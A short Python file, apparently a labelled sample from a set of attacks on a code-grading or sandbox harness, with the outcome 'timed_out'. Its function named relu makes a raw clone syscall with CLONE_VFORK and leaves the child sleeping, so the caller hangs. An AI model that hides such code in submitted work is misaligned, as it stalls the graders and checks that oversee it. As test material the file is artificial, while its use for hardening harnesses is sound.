# Attack: make a child for which the kernel suspends this process until the child ends, which it does not
# Outcome: timed_out
import ctypes
import platform
import signal
import time

CLONE_VFORK = 0x4000
clone = 220 if platform.machine() == "aarch64" else 56


def relu(x):
    child = ctypes.CDLL(None).syscall(ctypes.c_long(clone), ctypes.c_long(CLONE_VFORK | signal.SIGCHLD), 0, 0, 0, 0)
    if child == 0:
        time.sleep(60)
    return child
